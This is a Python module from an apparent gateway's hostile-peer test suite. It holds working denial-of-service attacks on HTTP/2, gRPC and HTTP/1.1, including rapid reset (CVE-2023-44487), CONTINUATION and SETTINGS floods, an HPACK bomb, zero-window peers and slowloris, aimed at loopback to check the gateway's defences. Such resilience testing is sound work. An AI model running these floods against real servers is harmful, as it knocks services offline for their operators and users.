"""Hostile HTTP/2, gRPC and HTTP/1.1 peers, for the attack suite (issue #13).

Each attack is a function ``attack(target, seconds) -> Outcome`` that runs for
about ``seconds`` against one port of a running gateway, on loopback only,
with blocking sockets (the callers run them on threads), and reports what the
attacker saw: the GOAWAY error code, RST_STREAM codes, gRPC statuses, HTTP
statuses, whether the gateway closed the connection. They make no judgement:
``tests/hostile/test_attacks.py`` asserts on outcomes, ``tools/bench/attack_bench.py``
measures a legitimate client meanwhile. Frames are built by hand where the
attack needs a frame no well-behaved library would send, and with ``h2`` where
it needs a well-behaved peer that merely never reads (a zero window).
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack

from protocol.pb import internal_pb2, status_pb2, worker_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
MiB = 1024 * 1024
PROCESS_TASKS = "/llmariner.inference.server.v1.InferenceWorkerService/ProcessTasks"
PROCESS_TASKS_INTERNAL = "/llmariner.inference.server.v1.InferenceInternalService/ProcessTasksInternal"
#: The model the zero-window peers claim to serve; nothing else serves it.
SINK_MODEL = "sink"
#: Seconds a well-behaved peer's send may wait for the gateway to read (generous: a loaded machine).
SEND_TIMEOUT = 10.0
#: Seconds without a byte from the gateway after which the pipelining attacker takes it as done.
QUIET = 0.5
#: Seconds an attack waits, once it stopped, for the gateway to end a connection it ought to end
#: (generous: a loaded machine; the wait ends as soon as the connection does).
CLOSE_WAIT = 10.0


@dataclass
class Target:
    """Where the gateway listens, and the credentials an attack may present."""

    host: str
    http_port: int
    worker_port: int
    internal_port: int
    engine_key: str | None = None
    client_key: str | None = None
    internal_secret: str | None = None

    def grpc_port(self, which: str) -> int:
        return self.worker_port if which == "worker" else self.internal_port

    def grpc_path(self, which: str) -> str:
        return PROCESS_TASKS if which == "worker" else PROCESS_TASKS_INTERNAL

    def grpc_credentials(self, which: str) -> str | None:
        return self.engine_key if which == "worker" else self.internal_secret


@dataclass
class Outcome:
    """What one attack saw of the gateway."""

    attack: str
    goaway: int | None = None
    resets: Counter[int] = field(default_factory=Counter)
    grpc_statuses: Counter[str] = field(default_factory=Counter)
    http_statuses: Counter[int] = field(default_factory=Counter)
    #: Connections the gateway closed (EOF or reset) while the attack ran.
    closed: int = 0
    connections: int = 0
    sent: int = 0
    #: Bytes the gateway still held queued for a zero-window peer once every request sent
    #: its way had ended (its ``infx_route_queued_bytes``), read while the peer was connected.
    queued_after_end: int | None = None
    #: Tasks (not cancels) the peer got once it opened its window after they had all ended.
    tasks_after_end: int | None = None
    notes: list[str] = field(default_factory=list)

    def merge(self, other: Outcome) -> None:
        if other.goaway is not None:
            self.goaway = other.goaway
        self.resets.update(other.resets)
        self.grpc_statuses.update(other.grpc_statuses)
        self.http_statuses.update(other.http_statuses)
        self.closed += other.closed
        self.connections += other.connections
        self.sent += other.sent
        if other.queued_after_end is not None:
            self.queued_after_end = max(self.queued_after_end or 0, other.queued_after_end)
        if other.tasks_after_end is not None:
            self.tasks_after_end = (self.tasks_after_end or 0) + other.tasks_after_end
        self.notes += other.notes

    def summary(self) -> str:
        parts = []
        if self.goaway is not None:
            parts.append(f"GOAWAY({self.goaway})")
        if self.resets:
            parts.append("RST " + ",".join(f"{code}x{n}" for code, n in sorted(self.resets.items())))
        if self.grpc_statuses:
            parts.append("grpc-status " + ",".join(f"{s}x{n}" for s, n in sorted(self.grpc_statuses.items())))
        if self.http_statuses:
            parts.append("HTTP " + ",".join(f"{s}x{n}" for s, n in sorted(self.http_statuses.items())))
        if self.queued_after_end is not None:
            parts.append(f"{self.queued_after_end} B queued once its requests ended")
        if self.tasks_after_end is not None:
            parts.append(f"{self.tasks_after_end} of their tasks sent when it read")
        parts.append(f"closed {self.closed}/{self.connections}")
        return "; ".join(parts + self.notes)


# --- frames and connections ----------------------------------------------------------


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"", length: int | None = None) -> bytes:
    """One HTTP/2 frame; ``length`` may claim more than the payload (a frame sent in part)."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def grpc_message(data: bytes, declared: int | None = None) -> bytes:
    """A length-prefixed gRPC message; ``declared`` may claim more than ``data``."""
    return struct.pack(">BI", 0, len(data) if declared is None else declared) + data


def request_headers(target: Target, which: str, path: str | None = None, authenticated: bool = True,
                    extra: list[tuple[str, str]] | None = None) -> list[tuple[str, str]]:
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path or target.grpc_path(which)),
               (":authority", f"{target.host}:{target.grpc_port(which)}"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    credentials = target.grpc_credentials(which)
    if authenticated and credentials:
        headers.append(("authorization", f"Bearer {credentials}"))
    return headers + (extra or [])


class Wire:
    """One raw TCP connection to the gateway, and a reader that records what comes back.

    A send that fails (the gateway closed, or reset the connection because
    our bytes were unread) stops the sending but not the reading: what the
    gateway wrote before it closed, its GOAWAY above all, is still in our
    receive buffer after the reset, and the reader takes it until EOF.
    """

    def __init__(self, host: str, port: int, outcome: Outcome, *, ack_settings: bool = True,
                 send_timeout: float = 1.0) -> None:
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.settimeout(send_timeout)
        self.outcome = outcome
        self.ack_settings = ack_settings
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        #: The gateway closed the connection (a send or a read saw it): send no more.
        self.gone = False
        self._closed = False
        # The part of a frame a timed-out send left unsent: it goes first, so frames stay whole.
        self._unsent = b""
        self._lock = threading.Lock()
        outcome.connections += 1
        self._reader: threading.Thread | None = None

    def start_reading(self) -> None:
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def send(self, data: bytes) -> bool:
        """Send ``data``; False once the gateway closed the connection.

        While the gateway does not read (the socket's timeout passes), the
        rest of a frame is kept for the next call and new data is dropped:
        a flood is best effort, but what arrives is whole frames."""
        if self.gone:
            return False
        with self._lock:
            try:
                self._unsent = self._send_some(self._unsent)
                if not self._unsent:
                    self._unsent = self._send_some(data)
            except OSError:
                self._lost()
                return False
        return True

    def _send_some(self, data: bytes) -> bytes:
        """Send what the socket takes before its timeout; the rest is returned."""
        view = memoryview(data)
        while view:
            try:
                sent = self.sock.send(view)
            except socket.timeout:
                break
            self.outcome.sent += sent
            view = view[sent:]
        return bytes(view)

    def drain(self, seconds: float) -> None:
        """Read what the gateway sends until it closes, for up to ``seconds`` (the reader thread, or here)."""
        if self._reader is not None:
            self._reader.join(seconds)
            return
        self.sock.settimeout(seconds)
        deadline = time.monotonic() + seconds
        self._read(deadline)

    def close(self) -> None:
        self._closed = self.gone = True
        try:
            self.sock.close()
        except OSError:
            pass

    def _lost(self) -> None:
        """The gateway closed the connection (counted once, and never our own close)."""
        if not self.gone:
            self.gone = True
            self.outcome.closed += 1

    def _read(self, deadline: float | None = None) -> None:
        buffer = b""
        while not self._closed and (deadline is None or time.monotonic() < deadline):
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                if deadline is None:
                    continue
                return
            except OSError:
                if not self._closed:
                    self._lost()
                return
            if not chunk:
                self._lost()
                return
            buffer += chunk
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags, stream_id = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                payload, buffer = buffer[9:9 + length], buffer[9 + length:]
                self._frame(kind, flags, stream_id, payload)

    def _frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        if kind == GOAWAY and len(payload) >= 8:
            self.outcome.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM and len(payload) >= 4:
            self.outcome.resets[int.from_bytes(payload[:4], "big")] += 1
        elif kind == SETTINGS and not flags & ACK and self.ack_settings:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == HEADERS:
            try:
                fields = dict(self.decoder.decode(payload))
            except Exception:  # a header block split over CONTINUATION frames: not ours to check
                return
            status = fields.get("grpc-status")
            if status is not None:
                self.outcome.grpc_statuses[status] += 1


def open_h2(target: Target, port: int, outcome: Outcome, settings: bytes = b"", **kwargs: object) -> Wire:
    wire = Wire(target.host, port, outcome, **kwargs)  # type: ignore[arg-type]
    wire.send(PREFACE + frame(SETTINGS, 0, 0, settings))
    return wire


def _for(seconds: float) -> Callable[[], bool]:
    deadline = time.monotonic() + seconds
    return lambda: time.monotonic() < deadline


# --- the attacks -------------------------------------------------------------------------


def rapid_reset(target: Target, which: str, seconds: float, authenticated: bool = True,
                connections: int = 2) -> Outcome:
    """HEADERS then RST_STREAM(CANCEL) at once, as fast as the socket takes them (CVE-2023-44487)."""
    outcome = Outcome(f"rapid reset ({'with' if authenticated else 'without'} credentials)")
    encoder = hpack.Encoder()
    headers = request_headers(target, which, authenticated=authenticated)
    first, repeated = encoder.encode(headers), encoder.encode(headers)

    def one() -> None:
        wire = open_h2(target, target.grpc_port(which), outcome)
        wire.start_reading()
        stream_id, going = 1, _for(seconds)
        while going() and not wire.gone and stream_id < 2**31 - 200:
            burst = []
            for _ in range(100):
                block = first if stream_id == 1 else repeated
                burst.append(frame(HEADERS, END_HEADERS, stream_id, block))
                burst.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
                stream_id += 2
            wire.send(b"".join(burst))
        wire.drain(CLOSE_WAIT)
        wire.close()

    _parallel(one, connections)
    return outcome


def settings_flood(target: Target, which: str, seconds: float, connections: int = 4) -> Outcome:
    """Small SETTINGS frames without end, never reading the ACKs."""
    outcome = Outcome("SETTINGS flood")
    burst = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)) * 2000

    def one() -> None:
        wire = open_h2(target, target.grpc_port(which), outcome, ack_settings=False, send_timeout=0.2)
        going = _for(seconds)
        while going() and wire.send(burst):
            pass
        wire.drain(CLOSE_WAIT)
        wire.close()

    _parallel(one, connections)
    return outcome


def big_settings_frame(target: Target, which: str, seconds: float) -> Outcome:
    """One SETTINGS frame of 16 MiB (a multiple of 6 bytes of settings)."""
    outcome = Outcome("16 MiB SETTINGS frame")
    size = 16 * MiB - 4
    wire = open_h2(target, target.grpc_port(which), outcome)
    wire.start_reading()
    wire.send(frame(SETTINGS, 0, 0, length=size))
    chunk = struct.pack(">HI", 0x3, 100) * (MiB // 6)
    left, going = size, _for(seconds)
    while left > 0 and going() and wire.send(chunk[:left]):
        left -= min(left, len(chunk))
    wire.drain(CLOSE_WAIT)
    wire.close()
    return outcome


def continuation_flood(target: Target, which: str, seconds: float, authenticated: bool = False) -> Outcome:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames."""
    outcome = Outcome("CONTINUATION flood")
    encoder = hpack.Encoder()
    wire = open_h2(target, target.grpc_port(which), outcome)
    wire.start_reading()
    wire.send(frame(HEADERS, 0, 1, encoder.encode(request_headers(target, which, authenticated=authenticated))))
    filler = encoder.encode([("x-filler", "f" * 8000)])
    continuation = frame(CONTINUATION, 0, 1, filler * 2)
    going = _for(seconds)
    while going() and wire.send(continuation * 8):
        pass
    wire.drain(CLOSE_WAIT)
    wire.close()
    return outcome


def half_headers(target: Target, which: str, seconds: float, connections: int = 8) -> Outcome:
    """On each connection, half of a 16 MiB HEADERS frame, then hold."""
    outcome = Outcome("half a 16 MiB HEADERS frame, held")
    wires = [open_h2(target, target.grpc_port(which), outcome) for _ in range(connections)]
    for wire in wires:
        wire.start_reading()
        wire.send(frame(HEADERS, END_HEADERS, 1, length=16 * MiB - 1))
    chunk = b"\0" * MiB
    for _ in range(8):
        for wire in wires:
            wire.send(chunk)
    time.sleep(max(0.0, seconds - 0.5))
    for wire in wires:
        wire.close()
    return outcome


def partial_message_hoard(target: Target, which: str, seconds: float, streams: int = 16,
                          per_stream: int = 6 * MiB, declared: int = 64 * MiB) -> Outcome:
    """Streams that each send part of a huge declared message, obeying flow control."""
    outcome = Outcome(f"partial-message hoard ({streams} x {per_stream // MiB} MiB of {declared // MiB} MiB)")
    peer = H2Peer(target, target.grpc_port(which), outcome)
    ids: list[int] = []
    while len(ids) < streams and not peer.gone:
        if peer.conn.open_outbound_streams >= peer.conn.remote_settings.max_concurrent_streams:
            # An unauthenticated connection may get a tight stream limit until its first call is let in.
            peer.pump(0.3)
            if peer.conn.open_outbound_streams >= peer.conn.remote_settings.max_concurrent_streams:
                outcome.notes.append(f"{len(ids)} streams allowed")
                break
        stream_id = peer.open(request_headers(target, which))
        peer.send_data(stream_id, grpc_message(b"", declared=declared))
        ids.append(stream_id)
        if len(ids) == 1:
            peer.pump(0.3)
    chunk = b"\0" * 16384
    sent = dict.fromkeys(ids, 0)
    going = _for(seconds)
    while going() and not peer.gone and not peer.send_failed and any(n < per_stream for n in sent.values()):
        progressed = False
        for stream_id in ids:
            if sent[stream_id] < per_stream and stream_id not in peer.ended and peer.window(stream_id) >= len(chunk):
                peer.send_data(stream_id, chunk)
                sent[stream_id] += len(chunk)
                progressed = True
        if not progressed:
            peer.pump(0.05)
    peer.pump(0.5)
    outcome.notes.append(f"{sum(sent.values()) // MiB} MiB sent")
    peer.close()
    return outcome


def connection_churn(target: Target, which: str, seconds: float) -> Outcome:
    """Open a connection, start a call, close it; again and again."""
    outcome = Outcome("open-and-close churn")
    block = hpack.Encoder().encode(request_headers(target, which))
    going = _for(seconds)
    while going():
        wire = open_h2(target, target.grpc_port(which), outcome)
        wire.send(frame(HEADERS, END_HEADERS, 1, block))
        wire.close()
    return outcome


def hpack_bomb(target: Target, which: str, seconds: float) -> Outcome:
    """One 4 KiB header put in the dynamic table, then a block referencing it thousands of times."""
    outcome = Outcome("HPACK bomb")
    encoder = hpack.Encoder()
    wire = open_h2(target, target.grpc_port(which), outcome)
    wire.start_reading()
    base = encoder.encode(request_headers(target, which) + [("x-bomb", "b" * 4000)])
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, base))
    # Index 62 is the newest dynamic entry: the bomb header.
    bomb = encoder.encode(request_headers(target, which)) + b"\xbe" * 4000
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
    wire.drain(min(seconds, 2.0))
    wire.close()
    return outcome


def ping_flood(target: Target, which: str, seconds: float) -> Outcome:
    outcome = Outcome("PING flood")
    wire = open_h2(target, target.grpc_port(which), outcome)
    wire.start_reading()
    burst = frame(PING, 0, 0, b"\0" * 8) * 1000
    going = _for(seconds)
    while going() and wire.send(burst):
        pass
    wire.drain(CLOSE_WAIT)
    wire.close()
    return outcome


def too_many_streams(target: Target, which: str, seconds: float, streams: int = 1100) -> Outcome:
    """More open streams than the gateway advertises (1000)."""
    outcome = Outcome(f"{streams} concurrent streams")
    encoder = hpack.Encoder()
    wire = open_h2(target, target.grpc_port(which), outcome)
    wire.start_reading()
    headers = request_headers(target, which)
    wire.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * n, encoder.encode(headers)) for n in range(streams)))
    wire.drain(min(seconds, 2.0))
    wire.close()
    return outcome


def h2_slowloris(target: Target, which: str, seconds: float, connections: int = 50) -> Outcome:
    """Connections that send their preface a byte at a time."""
    outcome = Outcome("h2 slowloris")
    wires = [Wire(target.host, target.grpc_port(which), outcome) for _ in range(connections)]
    _trickle(wires, PREFACE + frame(SETTINGS, 0, 0), 0.1, seconds)
    return outcome


def zero_window_engine(target: Target, which: str, seconds: float, tasks: int = 64, task_size: int = MiB,
                       request_timeout: float | None = None) -> Outcome:
    """An authenticated engine (or peer) that serves ``SINK_MODEL`` and opens no flow-control
    window, while ``tasks`` requests of ``task_size`` bytes are sent its way over HTTP.

    With ``request_timeout``, the requests say so (``x-request-timeout``) and end at it while
    the peer is still connected; once they all have, what the gateway still holds queued for
    such peers (``infx_route_queued_bytes``) is read into ``outcome.queued_after_end`` and the
    peer leaves (at ``seconds`` at the latest)."""
    expiring = "" if request_timeout is None else f", ending after {request_timeout:g} s"
    outcome = Outcome(f"zero-window {'engine' if which == 'worker' else 'peer'}, "
                      f"{tasks} x {task_size // MiB} MiB tasks{expiring}")
    peer = H2Peer(target, target.grpc_port(which), outcome, initial_window=0)
    stream_id = peer.open(request_headers(target, which))
    if which == "worker":
        status = status_pb2.EngineStatus(engine_id="zero-window", ready=True, models=[
            status_pb2.EngineStatus.Model(id=SINK_MODEL, is_ready=True)])
        message = worker_pb2.ProcessTasksRequest(engine_status=status).SerializeToString()
    else:
        status = status_pb2.EngineStatus(engine_id="zero-window-remote", ready=True, models=[
            status_pb2.EngineStatus.Model(id=SINK_MODEL, is_ready=True)])
        report = internal_pb2.ServerStatus(pod_name="zero-window-pod", engine_statuses=[
            internal_pb2.ServerStatus.EngineStatusWithTenantID(engine_status=status, tenant_id="default")])
        message = internal_pb2.ProcessTasksInternalRequest(server_status=report).SerializeToString()
    peer.send_data(stream_id, grpc_message(message))
    peer.pump(0.5)
    content = "x" * task_size
    threads = [threading.Thread(target=_post_chat, args=(target, SINK_MODEL, content, outcome, seconds + 30,
                                                         request_timeout), daemon=True)
               for _ in range(tasks)]
    for thread in threads:
        thread.start()
    going = _for(seconds)
    while going() and not peer.gone:
        peer.pump(0.1)
        if request_timeout is not None and not any(thread.is_alive() for thread in threads):
            outcome.queued_after_end = route_queued_bytes(target, "engine" if which == "worker" else "peer")
            # Reading at last: whatever of the ended requests' tasks comes now was still queued.
            peer.open_window(stream_id, 2 * tasks * (task_size + 1024))
            peer.pump(1.0)
            outcome.tasks_after_end = len(tasks_sent(peer.received.get(stream_id, b""), which))
            break
    peer.close()
    for thread in threads:
        thread.join(1.0)
    return outcome


def route_queued_bytes(target: Target, route: str) -> int | None:
    """The gateway's ``infx_route_queued_bytes{route=...}`` from its /metrics (None if it has none)."""
    import urllib.request

    with urllib.request.urlopen(f"http://{target.host}:{target.http_port}/metrics", timeout=SEND_TIMEOUT) as reply:
        for line in reply.read().decode().splitlines():
            if line.startswith(f'infx_route_queued_bytes{{route="{route}"}} '):
                return int(float(line.split()[-1]))
    return None


def tasks_sent(data: bytes | bytearray, which: str) -> list[worker_pb2.Task]:
    """The tasks (not cancels) among the whole messages the gateway sent on a ProcessTasks
    (``worker``) or ProcessTasksInternal stream."""
    tasks = []
    while len(data) >= 5:
        length = int.from_bytes(data[1:5], "big")
        if len(data) < 5 + length:
            break
        message = bytes(data[5:5 + length])
        data = data[5 + length:]
        response = (worker_pb2.ProcessTasksResponse if which == "worker"
                    else internal_pb2.ProcessTasksInternalResponse).FromString(message)
        if response.new_task.request.WhichOneof("request") != "cancel_task":
            tasks.append(response.new_task)
    return tasks


def http_endless_chunked(target: Target, seconds: float) -> Outcome:
    """A chunked request body that never ends."""
    return _endless_body(target, seconds, "HTTP endless chunked body", "Transfer-Encoding: chunked",
                         b"%x\r\n%s\r\n" % (MiB, b"x" * MiB))


def http_huge_content_length(target: Target, seconds: float) -> Outcome:
    """``Content-Length: 100 GiB``, then body bytes for as long as the gateway takes them."""
    return _endless_body(target, seconds, "HTTP Content-Length: 100 GiB", f"Content-Length: {100 << 30}",
                         b"x" * MiB)


def http_pipeline_flood(target: Target, seconds: float, requests: int = 5000, path: str = "/v1/models") -> Outcome:
    """``requests`` GETs pipelined on one connection that reads none of the answers while the
    gateway writes them. Once no answer came for ``QUIET`` seconds (the gateway is done with
    them, or waits for them to be read), or after ``seconds``, what came is read and each
    answer's status counted; the connection counts as closed if the gateway closed it."""
    import fcntl
    import termios

    outcome = Outcome(f"HTTP {requests} pipelined GETs, answers unread")
    started = time.monotonic()
    wire = Wire(target.host, target.http_port, outcome, send_timeout=seconds)
    head = f"GET {path} HTTP/1.1\r\nHost: {target.host}\r\n{_auth_header(target)}\r\n".encode()
    wire.send(head * requests)  # what the gateway does not read within ``seconds`` is dropped

    def unread() -> int:
        return int.from_bytes(fcntl.ioctl(wire.sock.fileno(), termios.FIONREAD, b"\0" * 4), "little")

    last, since = -1, time.monotonic()
    while (now := time.monotonic()) < started + seconds:
        if (queued := unread()) != last:
            last, since = queued, now
        elif now - since >= QUIET:
            break
        time.sleep(0.02)
    data = b""
    wire.sock.settimeout(QUIET)
    while True:
        try:
            chunk = wire.sock.recv(1 << 20)
        except socket.timeout:
            break
        except OSError:  # reset once our unread requests met its close: what came before was read
            chunk = b""
        if not chunk:
            wire._lost()
            break
        data += chunk
    for answer in data.split(b"HTTP/1.1 ")[1:]:
        outcome.http_statuses[int(answer[:3])] += 1
    wire.close()
    return outcome


def _endless_body(target: Target, seconds: float, name: str, framing: str, chunk: bytes) -> Outcome:
    """A chat POST whose body (framed by the ``framing`` header) is ``chunk`` sent again and again."""
    outcome = Outcome(name)
    wire = Wire(target.host, target.http_port, outcome)
    head = (f"POST /v1/chat/completions HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: application/json\r\n"
            f"{framing}\r\n{_auth_header(target)}\r\n").encode()
    wire.send(head)
    reply = _HttpReply(wire, outcome)
    going = _for(seconds)
    while going() and wire.send(chunk):
        pass
    reply.finish(1.0)
    wire.close()
    return outcome


def http_slowloris(target: Target, seconds: float, connections: int = 50) -> Outcome:
    """Connections that send their request headers a byte at a time."""
    outcome = Outcome("HTTP slowloris")
    wires = [Wire(target.host, target.http_port, outcome) for _ in range(connections)]
    _trickle(wires, f"GET /healthz HTTP/1.1\r\nHost: {target.host}\r\nX-Slow: {'s' * 200}\r\n\r\n".encode(),
             0.05, seconds)
    return outcome


def _trickle(wires: list[Wire], data: bytes, pause: float, seconds: float) -> None:
    """Send ``data`` on every wire a byte at a time, ``pause`` seconds apart, for at most ``seconds``;
    then close them."""
    going, index = _for(seconds), 0
    while going() and index < len(data):
        for wire in wires:
            wire.send(data[index:index + 1])
        index += 1
        time.sleep(pause)
    for wire in wires:
        wire.close()


# --- helpers -------------------------------------------------------------------------------


class H2Peer:
    """A well-behaved HTTP/2 client (``h2``) that answers SETTINGS and PINGs but opens
    windows only as ``initial_window`` says; never acknowledges received data.

    As with :class:`Wire`, a failed send does not end the reading: :meth:`pump`
    still takes what the gateway wrote before it closed, until EOF."""

    def __init__(self, target: Target, port: int, outcome: Outcome, initial_window: int = 65_535) -> None:
        self.outcome = outcome
        self.sock = socket.create_connection((target.host, port), timeout=5)
        outcome.connections += 1
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window,
            h2.settings.SettingCodes.ENABLE_PUSH: 0})
        self.conn.initiate_connection()
        self.gone = False
        #: A send failed: the gateway closed, reset, or stopped reading; send no more.
        self.send_failed = False
        self.ended: set[int] = set()
        #: DATA received on each stream (what the window let through).
        self.received: dict[int, bytearray] = {}
        self._flush()
        self.pump(0.2)

    def open(self, headers: list[tuple[str, str]]) -> int:
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, headers)
        self._flush()
        return stream_id

    def send_data(self, stream_id: int, data: bytes) -> None:
        if stream_id in self.ended or self.gone or self.send_failed:
            return
        try:
            self.conn.send_data(stream_id, data)
        except Exception as e:  # the stream closed under us (h2 says why)
            self.ended.add(stream_id)
            self.outcome.notes.append(type(e).__name__)
            return
        self._flush()

    def open_window(self, stream_id: int, size: int) -> None:
        """Let the gateway send ``size`` more bytes on ``stream_id`` (and on the connection),
        unless the stream has ended (then nothing more comes on it)."""
        if self.gone or stream_id in self.ended:
            return
        self.conn.increment_flow_control_window(size)
        try:
            self.conn.increment_flow_control_window(size, stream_id=stream_id)
        except h2.exceptions.StreamClosedError:
            self.ended.add(stream_id)
        self._flush()

    def window(self, stream_id: int) -> int:
        try:
            return min(self.conn.local_flow_control_window(stream_id), self.conn.max_outbound_frame_size)
        except Exception:
            self.ended.add(stream_id)
            return 0

    def pump(self, seconds: float) -> None:
        """Read and handle what the gateway sends for up to ``seconds``."""
        deadline = time.monotonic() + seconds
        while not self.gone and (left := deadline - time.monotonic()) > 0:
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(1 << 16)
            except socket.timeout:
                return
            except OSError:
                data = b""
            if not data:
                self.gone = True
                self.outcome.closed += 1
                return
            for event in self.conn.receive_data(data):
                self._event(event)
            self._flush()

    def close(self) -> None:
        self.gone = True
        self.sock.close()

    def _event(self, event: object) -> None:
        if isinstance(event, h2.events.DataReceived):
            self.received.setdefault(event.stream_id, bytearray()).extend(event.data)
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.outcome.goaway = int(event.error_code)
        elif isinstance(event, h2.events.StreamReset):
            self.outcome.resets[int(event.error_code)] += 1
            self.ended.add(event.stream_id)
        elif isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
            status = dict(event.headers).get("grpc-status")
            if status is not None:
                self.outcome.grpc_statuses[status] += 1
                self.ended.add(event.stream_id)

    def _flush(self) -> None:
        data = self.conn.data_to_send()
        if data and not self.gone and not self.send_failed:
            # pump() left the socket with what was left of its wait: a send gets a generous one of its own.
            self.sock.settimeout(SEND_TIMEOUT)
            try:
                self.sock.sendall(data)
            except OSError:
                # The gateway closed (or reset) the connection, or has not read for SEND_TIMEOUT seconds;
                # the next pump() reads what it wrote before that, and sees the end.
                self.send_failed = True


class _HttpReply:
    """Reads an HTTP/1.1 response on a thread while the attacker keeps sending."""

    def __init__(self, wire: Wire, outcome: Outcome) -> None:
        self.wire = wire
        self.outcome = outcome
        self.data = b""
        self._thread = threading.Thread(target=self._read, daemon=True)
        self._thread.start()

    def _read(self) -> None:
        sock = self.wire.sock
        while True:
            try:
                chunk = sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                break
            if not chunk:
                break
            self.data += chunk
        if self.data.startswith(b"HTTP/1.1 "):
            self.outcome.http_statuses[int(self.data[9:12])] += 1
        self.wire._lost()

    def finish(self, seconds: float) -> None:
        self._thread.join(seconds)


def _auth_header(target: Target) -> str:
    return f"Authorization: Bearer {target.client_key}\r\n" if target.client_key else ""


def _post_chat(target: Target, model: str, content: str, outcome: Outcome, timeout: float,
               request_timeout: float | None = None) -> None:
    import http.client
    import json

    body = json.dumps({"model": model, "messages": [{"role": "user", "content": content}]})
    headers = {"Content-Type": "application/json"}
    if target.client_key:
        headers["Authorization"] = f"Bearer {target.client_key}"
    if request_timeout is not None:
        headers["x-request-timeout"] = f"{request_timeout:g}"
    connection = http.client.HTTPConnection(target.host, target.http_port, timeout=timeout)
    try:
        connection.request("POST", "/v1/chat/completions", body, headers)
        outcome.http_statuses[connection.getresponse().status] += 1
    except OSError:
        outcome.http_statuses[0] += 1
    finally:
        connection.close()


def _parallel(work: Callable[[], None], count: int) -> None:
    threads = [threading.Thread(target=work, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


#: Every attack, by name: ``(run(target, seconds) -> Outcome, port)`` where port is
#: "worker", "internal" or "http"; gRPC attacks run on both gRPC ports.
def catalogue(ports: tuple[str, ...] = ("worker", "internal")) -> list[tuple[str, str, Callable[[Target, float], Outcome]]]:
    entries: list[tuple[str, str, Callable[[Target, float], Outcome]]] = []
    for which in ports:
        def on(fn: Callable[..., Outcome], **kw: object) -> Callable[[Target, float], Outcome]:
            return lambda target, seconds, fn=fn, which=which, kw=kw: fn(target, which, seconds, **kw)
        entries += [
            ("rapid-reset", which, on(rapid_reset)),
            ("rapid-reset-unauthenticated", which, on(rapid_reset, authenticated=False)),
            ("settings-flood", which, on(settings_flood)),
            ("settings-16mib", which, on(big_settings_frame)),
            ("continuation-flood", which, on(continuation_flood)),
            ("half-headers-x8", which, on(half_headers)),
            ("zero-window", which, on(zero_window_engine)),
            ("zero-window-expiring", which, on(zero_window_engine, request_timeout=1.0)),
            ("partial-hoard", which, on(partial_message_hoard)),
            ("churn", which, on(connection_churn)),
            ("hpack-bomb", which, on(hpack_bomb)),
            ("ping-flood", which, on(ping_flood)),
            ("too-many-streams", which, on(too_many_streams)),
            ("h2-slowloris", which, on(h2_slowloris)),
        ]
    entries += [
        ("endless-chunked", "http", http_endless_chunked),
        ("content-length-100gib", "http", http_huge_content_length),
        ("http-slowloris", "http", http_slowloris),
        ("http-pipeline-flood", "http", http_pipeline_flood),
    ]
    return entries


# --- the legitimate client ---------------------------------------------------------------


@dataclass(frozen=True)
class Call:
    kind: str
    started: float
    latency: float
    ok: bool
    note: str = ""


@dataclass(frozen=True)
class CallStats:
    calls: int
    failures: int
    p50: float
    p99: float
    notes: tuple[str, ...]


class LegitimateClient:
    """A well-behaved client on a thread, in a loop: a chat completion (checked answer),
    ``/healthz``, and a gRPC probe on each gRPC port (an unknown method, which must
    come back UNIMPLEMENTED at once). Every call is recorded with its latency."""

    def __init__(self, target: Target, model: str = "m", timeout: float = 5.0, pause: float = 0.01) -> None:
        import grpc

        self.target = target
        self.model = model
        self.timeout = timeout
        self.pause = pause
        self.calls: list[Call] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._channels = {which: grpc.insecure_channel(f"{target.host}:{target.grpc_port(which)}")
                          for which in ("worker", "internal")}
        self._http: object | None = None

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(self.timeout + 1)
        for channel in self._channels.values():
            channel.close()

    def stats(self, since: float, until: float | None = None) -> CallStats:
        """Calls started in ``[since, until)`` (``time.monotonic()`` values)."""
